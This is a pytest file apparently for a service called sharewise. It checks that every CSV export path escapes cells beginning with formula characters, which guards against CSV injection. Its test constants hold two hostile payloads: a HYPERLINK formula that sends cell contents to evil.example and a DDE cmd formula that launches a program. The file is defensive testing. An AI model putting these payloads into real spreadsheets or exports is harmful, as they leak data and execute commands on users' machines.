"""Every CSV the service writes shows a cell as the text it is: a spreadsheet never runs
a practitioner's words as a formula (CSV injection), on the records page, through the
API and from `sharewise records export`."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from sharewise.cli import app
from sharewise.register.export import FORMULA_STARTS, as_text
from sharewise.register.store import Register
from sharewise.server import create_app
from tests.accounts import bearer, signed_in
from tests.register.helpers import decision
from tests.web.conftest import AS_JO

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_would_start_a_formula_is_quoted(start: str) -> None:
    assert as_text(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["Her father agreed.", "", None, 3, True, "1=1", " =1"])
def test_any_other_cell_is_left_as_it_is(cell: object) -> None:
    assert as_text(cell) == cell


def test_every_csv_export_writes_a_formula_as_text(
    staffed: Register, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for reasons, purpose in ((HYPERLINK, COMMAND), (COMMAND, HYPERLINK)):
        facts = {**decision()["facts"], "purpose": purpose}
        staffed.record_decision(decision(facts=facts, decision={"share": True, "reasons": reasons}))
    exports = {}
    with TestClient(create_app(database_url), cookies=signed_in(staffed, AS_JO)) as pages:
        exports["the records page"] = pages.get("/records/export.csv").text
    with TestClient(create_app(database_url), headers=bearer(staffed, AS_JO)) as api:
        exports["the API"] = api.get("/api/v1/decisions/export", params={"format": "csv"}).text
    monkeypatch.setenv("SHAREWISE_DATABASE_URL", database_url)
    written = tmp_path / "records.csv"
    result = CliRunner().invoke(
        app, ["records", "export", "--format", "csv", "--output", str(written)]
    )
    assert result.exit_code == 0, result.output
    exports["sharewise records export"] = written.read_text(encoding="utf-8")

    for face, text in exports.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        assert sorted(row["reasons"] for row in rows) == sorted([f"'{HYPERLINK}", f"'{COMMAND}"])
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], face
